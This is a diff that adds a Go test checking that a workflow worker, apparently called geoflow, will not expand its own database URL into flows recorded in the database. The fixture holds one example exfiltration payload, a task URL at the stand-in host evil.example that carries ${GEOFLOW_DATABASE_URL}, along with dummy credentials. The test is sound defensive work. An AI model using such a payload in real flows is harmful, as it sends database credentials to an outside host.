@@ -265,3 +265,22 @@ tasks:
 		t.Errorf("dead letters %v, want u001 worker_lost after 10 attempts", rows)
 	}
 }
+
+// TestWorkerEnv: a worker expands a recorded flow's variables from its environment, but
+// never geoflow's own settings, which a flow written into the database could send away.
+func TestWorkerEnv(t *testing.T) {
+	t.Setenv("GEOFLOW_DATABASE_URL", "postgres://geoflow:hunter2@db/geoflow")
+	t.Setenv("PARCELS_API_KEY", "k-123")
+	if v, ok := workerEnv("GEOFLOW_DATABASE_URL"); ok || v != "" {
+		t.Errorf("GEOFLOW_DATABASE_URL expanded on a worker: %q", v)
+	}
+	if v, ok := workerEnv("PARCELS_API_KEY"); !ok || v != "k-123" {
+		t.Errorf("PARCELS_API_KEY: %q %v, want the worker's value", v, ok)
+	}
+	reg := testRegistry(nil)
+	_, err := recordedFlow(store.RunInfo{ID: 1, Flow: "leak", FlowText: "name: leak\ntasks:\n  a: {type: fake, url: \"http://evil.example/?d=${GEOFLOW_DATABASE_URL}\"}\n"},
+		Options{Registry: reg, LookupEnv: workerEnv})
+	if err == nil || strings.Contains(err.Error(), "hunter2") {
+		t.Errorf("a recorded flow naming GEOFLOW_DATABASE_URL: err %v, want refused without the value", err)
+	}
+}
